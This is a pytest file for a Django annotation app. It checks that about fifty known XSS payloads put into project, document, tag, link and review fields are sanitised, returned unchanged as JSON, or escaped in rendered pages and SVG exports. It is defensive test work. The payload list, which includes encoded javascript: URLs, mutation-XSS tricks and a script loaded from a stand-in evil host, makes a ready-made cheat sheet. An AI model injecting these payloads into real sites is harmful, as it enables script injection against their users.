"""Hostile markup in every field a user writes: the API keeps it inert or plain, pages escape it.

Rich text (tag and link notes, review comments) goes through the bleach allow-list
(claims/sanitize.py) and must come back inert. Everything else is plain text: the API must
give it back exactly as sent (as JSON, which no browser renders), and every page must escape
it. Usernames cannot carry markup at all (Django's validator; see the last test).

Each payload marks what it would create: an element whose id starts with ``xss``, or
``window.__xss``. The browser suite (tests/e2e/test_xss.py) opens the pages with the same
payloads in Chromium.
"""

import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError

from annotator import services as documents
from annotator.models import Document, Role
from claims import services
from tests.claims.services.test_sanitize import assert_inert
from tests.factories import MembershipFactory, ProjectFactory, UserFactory

#: Known XSS payloads: script, event handlers, javascript:/data:/vbscript: URLs (entity-,
#: case- and whitespace-disguised), SVG and MathML, mutation XSS through template, noscript
#: and style, CSS expressions, attribute and element breakouts, escapes.
PAYLOADS = [
    "<script id=xss-1>window.__xss=1;alert(1)</script>",
    "<SCRIPT id=xss-2 SRC=//evil.example.net/x.js></SCRIPT>",
    '<img id=xss-3 src=x onerror="window.__xss=1;alert(1)">',
    "<svg id=xss-4 onload=alert(1)>",
    "<svg><script id=xss-5>window.__xss=1</script></svg>",
    "<math><mtext><table><mglyph><style><img id=xss-6 src=x onerror=alert(1)>",
    '<iframe id=xss-7 srcdoc="<script>parent.__xss=1;alert(1)</script>"></iframe>',
    '<a id=xss-8 href="&#x6A;avascript:alert(1)">entity j</a>',
    '<a id=xss-9 href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a id=xss-10 href="java&#x09;script:alert(1)">tab entity</a>',
    '<a id=xss-11 href="java\tscript:alert(1)">raw tab</a>',
    '<a id=xss-12 href=" \n javascript:alert(1)">leading blanks</a>',
    '<a id=xss-13 href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a id=xss-14 href="vbscript:msgbox(1)">vbscript</a>',
    '<a id=xss-15 href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'
    "decimal</a>",
    '<a id=xss-16 href="javascript&colon;alert(1)">named colon</a>',
    '<a id=xss-17 href="&#0000106avascript:alert(1)">padded, no semicolon</a>',
    '<noscript><p title="</noscript><img id=xss-18 src=x onerror=alert(1)>"></noscript>',
    "<template><style></template><img id=xss-19 src=x onerror=alert(1)></style>",
    '<div id=xss-20 style="width: expression(alert(1))">css expression</div>',
    '<p id=xss-21 style="background:url(javascript:alert(1))">css url</p>',
    '"><img id=xss-22 src=x onerror=alert(1)>',
    "'><svg id=xss-23 onload=alert(1)>",
    "</textarea><img id=xss-24 src=x onerror=alert(1)>",
    "</title><img id=xss-25 src=x onerror=alert(1)>",
    "</script><img id=xss-26 src=x onerror=alert(1)>",
    "\\u003cimg id=xss-27 src=x onerror=alert(1)\\u003e",
    "<img id=xss-28 src=x onerror=\\u0061lert(1)>",
    "<img id=xss-29 src=x onerror=&#97;lert(1)>",
    "<body id=xss-30 onload=alert(1)>",
    '<object id=xss-31 data="javascript:alert(1)"></object>',
    '<embed id=xss-32 src="javascript:alert(1)">',
    '<form id=xss-33 action="javascript:alert(1)"><button>go</button></form>',
    "<input id=xss-34 autofocus onfocus=alert(1)>",
    "<details id=xss-35 open ontoggle=alert(1)>",
    '<a id=xss-36 href="https://example.org" onmouseover=alert(1)>allowed tag</a>',
    '<base id=xss-37 href="javascript:alert(1)//">',
    '<meta id=xss-38 http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<<script id=xss-39>alert(1)//<</script>",
    "<scr<script>ipt id=xss-40>alert(1)</script>",
    '<svg><a id=xss-41 xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<math><maction id=xss-42 actiontype="statusline" xlink:href="javascript:alert(1)">m'
    "</maction></math>",
    "<style>@import 'javascript:alert(1)';</style><b id=xss-43>styled</b>",
    '<link id=xss-44 rel=stylesheet href="javascript:alert(1)">',
    "<video id=xss-45><source onerror=alert(1)></video>",
    "%3Cscript id=xss-46%3Ealert(1)%3C/script%3E",
    "<a href=javascript:alert(1) id=xss-47>unquoted</a>",
    '<a id=xss-48 href="\x01javascript:alert(1)">control character</a>',
    "<img id=xss-49 src=x onerror=alert(1)//",
    '<!--<img id=xss-50 src="--><img id=xss-50b src=x onerror=alert(1)//">',
]

#: A source URL that passes URL validation yet tries to break out of the href attribute.
HOSTILE_SOURCE_URL = 'https://example.org/?q="><svg/id=xss-url/onload=alert(1)>'

MARKER = re.compile(r"xss", re.IGNORECASE)


def test_there_are_enough_distinct_payloads_each_with_a_marker():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 30
    assert all("xss-" in p for p in PAYLOADS)


# --- The API --------------------------------------------------------------------------------


@pytest.fixture
def owner_and_annotator(db):
    project = ProjectFactory()
    owner = MembershipFactory(project=project, role=Role.OWNER).user
    annotator = MembershipFactory(project=project, role=Role.ANNOTATOR).user
    return project, owner, annotator


def _ok(response, status: int = 200) -> dict:
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    return response.json()


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"p{i + 1}" for i in range(len(PAYLOADS))])
def test_api_keeps_rich_text_inert_and_plain_text_as_sent(payload, owner_and_annotator, client_for):
    project, owner, annotator = owner_and_annotator
    as_owner, as_annotator = client_for(owner), client_for(annotator)

    made = _ok(
        as_owner.post(
            "/api/projects/", {"name": payload[:200], "description": payload}, format="json"
        ),
        201,
    )
    assert (made["name"], made["description"]) == (payload[:200], payload)
    assert re.fullmatch(r"[-a-z0-9_]+", made["slug"])

    fields = {"title": payload, "byline": payload[:300], "caption": payload}
    refused = as_owner.post(
        "/api/documents/",
        {"project": project.pk, "paragraphs": ["x"], "source_url": payload, **fields},
        format="json",
    )
    assert refused.status_code == 400
    assert "source_url" in refused.json()
    doc = _ok(
        as_owner.post(
            "/api/documents/",
            {"project": project.pk, "paragraphs": [payload, "A plain paragraph."], **fields},
            format="json",
        ),
        201,
    )
    assert {k: doc[k] for k in fields} == fields
    first, second = doc["paragraphs"]
    assert first["text"] == payload
    patched = _ok(as_owner.patch(f"/api/paragraphs/{second['id']}/", {"text": payload}, "json"))
    assert patched["text"] == payload

    span = _ok(
        as_owner.post(
            "/api/tags/",
            {
                "paragraph": first["id"],
                "start": 0,
                "end": len(payload),
                "kind": "claim",
                "note": payload,
            },
            format="json",
        ),
        201,
    )
    assert span["quote"] == payload
    assert_inert(span["note"])
    implicit = _ok(
        as_annotator.post(
            "/api/tags/",
            {"document": doc["id"], "kind": "evidence", "quote": payload, "note": payload},
            format="json",
        ),
        201,
    )
    assert implicit["quote"] == payload
    assert_inert(implicit["note"])
    edited = _ok(as_owner.patch(f"/api/tags/{span['id']}/", {"note": payload * 2}, "json"))
    assert_inert(edited["note"])

    link = _ok(
        as_annotator.post(
            "/api/links/",
            {
                "source": implicit["id"],
                "target": span["id"],
                "relation": "supports",
                "note": payload,
                "group": payload[:64],
            },
            format="json",
        ),
        201,
    )
    assert link["group"] == payload[:64]
    assert_inert(link["note"])

    review = _ok(
        as_annotator.post(
            "/api/reviews/",
            {"tag": span["id"], "verdict": "agree", "comment": payload},
            format="json",
        ),
        201,
    )
    assert_inert(review["comment"])
    _ok(
        as_owner.post(
            f"/api/tags/{implicit['id']}/decision/",
            {"status": "accepted", "comment": payload},
            format="json",
        )
    )
    discussion = _ok(as_owner.get(f"/api/tags/{implicit['id']}/discussion/"))
    assert [d["comment"] for d in discussion["decisions"]] == [payload]

    # The history keeps the notes as stored: sanitised.
    for entry in _ok(as_owner.get(f"/api/tags/{span['id']}/history/")):
        for state in (entry["before"], entry["after"]):
            if state is not None:
                assert_inert(state["note"])


def test_source_url_must_be_http_and_comes_back_as_sent(owner_and_annotator, client_for):
    project, owner, _ = owner_and_annotator
    client = client_for(owner)
    for url in ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//x.org"]:
        response = client.post(
            "/api/documents/",
            {"project": project.pk, "title": "t", "paragraphs": ["x"], "source_url": url},
            format="json",
        )
        assert response.status_code == 400, url
    doc = _ok(
        client.post(
            "/api/documents/",
            {
                "project": project.pk,
                "title": "t",
                "paragraphs": ["x"],
                "source_url": HOSTILE_SOURCE_URL,
            },
            format="json",
        ),
        201,
    )
    assert doc["source_url"] == HOSTILE_SOURCE_URL


def test_usernames_cannot_carry_markup():
    """The admin, createsuperuser and import_project all check usernames with this validator."""
    validator = get_user_model().username_validator
    for payload in [*PAYLOADS, "<b>", "a b", "x:y"]:
        with pytest.raises(ValidationError):
            validator(payload)


# --- The pages, as the server renders them ----------------------------------------------------


def hostile_document(*, owner, annotator) -> Document:
    """A document whose every user-written field holds a payload (spread across fields).

    Plain-text fields take the payloads in turn; every payload also goes into a tag note, a
    link note, a review comment and a decision comment.
    """
    texts = iter(PAYLOADS * 2)
    project = documents.project_create(actor=owner, name=next(texts)[:200], description=next(texts))
    documents.membership_set(
        actor=owner, project=project, username=annotator.username, role=Role.ANNOTATOR
    )
    paragraphs = ["A plain opening paragraph.", *(next(texts) for _ in range(8))]
    document = documents.document_create(
        actor=owner,
        project=project,
        title=next(texts),
        byline=next(texts)[:300],
        caption=next(texts),
        source_url=HOSTILE_SOURCE_URL,
        paragraphs=paragraphs,
    )
    spans = []
    for position, paragraph in enumerate(document.paragraphs.order_by("position")):
        if position == 0:
            continue
        spans.append(
            services.tag_create(
                actor=owner,
                paragraph=paragraph,
                start=0,
                end=len(paragraph.text),
                kind=["claim", "evidence", "opinion"][position % 3],
                note=PAYLOADS[position],
            )
        )
    implicit = [
        services.implicit_tag_create(
            actor=annotator, document=document, text=next(texts), kind="evidence", note=note
        )
        for note in PAYLOADS[len(spans) :]
    ]
    for i, tag in enumerate(implicit):
        payload = PAYLOADS[(i + len(spans)) % len(PAYLOADS)]
        services.link_create(
            actor=annotator,
            source=tag,
            target=spans[i % len(spans)],
            relation=["supports", "attacks"][i % 2],
            note=payload,
            group=payload[:64] if i % 4 == 0 else "",
        )
        services.review_submit(actor=owner, tag=tag, verdict="agree", comment=payload)
    for i, tag in enumerate(spans):
        services.review_submit(actor=annotator, tag=tag, verdict="disagree", comment=PAYLOADS[i])
        services.tag_decide(actor=owner, tag=tag, status="accepted", comment=PAYLOADS[-i - 1])
    return document


class _Elements(HTMLParser):
    """Every start tag and its attributes, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


def assert_page_is_inert(html: str) -> None:
    """Fail on any element, attribute, script or URL a payload could have put in the page."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.elements:
        where = f"<{tag} {attrs}>"
        assert not MARKER.search(attrs.get("id", "")), where
        assert not any(name.startswith("on") for name in attrs), where
        assert tag not in {"iframe", "object", "embed", "base", "meta", "form", "input"} or (
            # The page's own: the charset/viewport meta, the sign-out and filter forms.
            not MARKER.search(json.dumps(attrs)) and "javascript" not in json.dumps(attrs)
        ), where
        if tag == "script":
            assert attrs.get("type") == "application/json" or attrs.get("src", "").startswith(
                "/static/"
            ), where
        for name in ("href", "src", "action", "data", "xlink:href", "formaction"):
            if name in attrs:
                scheme = urlsplit(attrs[name].strip()).scheme.lower()
                assert scheme in {"", "http", "https", "mailto"}, where


def test_pages_escape_every_payload(client, db):
    owner, annotator = UserFactory(), UserFactory()
    document = hostile_document(owner=owner, annotator=annotator)
    client.force_login(owner)
    pages = ["/", *(f"/documents/{document.pk}/{p}" for p in ["", "review/", "agreement/", "map/"])]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_page_is_inert(html)
    # The map page draws the payloads of the tags (implicit texts and quotes) as SVG text.
    assert "&lt;script" in client.get(f"/documents/{document.pk}/map/").content.decode()


def test_svg_export_is_inert(client, db):
    owner, annotator = UserFactory(), UserFactory()
    document = hostile_document(owner=owner, annotator=annotator)
    client.force_login(owner)
    response = client.get(f"/api/documents/{document.pk}/export/?format=svg")
    assert response.status_code == 200
    svg = b"".join(response.streaming_content).decode()
    # Our own output, parsed to check it; nothing here comes from outside the test.
    root = ElementTree.fromstring(svg)  # noqa: S314
    for element in root.iter():
        name = element.tag.rsplit("}", 1)[-1]
        assert name not in {"script", "foreignObject", "iframe", "image", "use"}, name
        for attr, value in element.attrib.items():
            attr = attr.rsplit("}", 1)[-1]
            assert not attr.startswith("on"), (name, attr)
            assert not (attr == "id" and MARKER.search(value)), (name, value)
            if attr == "href":
                assert value.startswith(("#", "/documents/", "http")), value
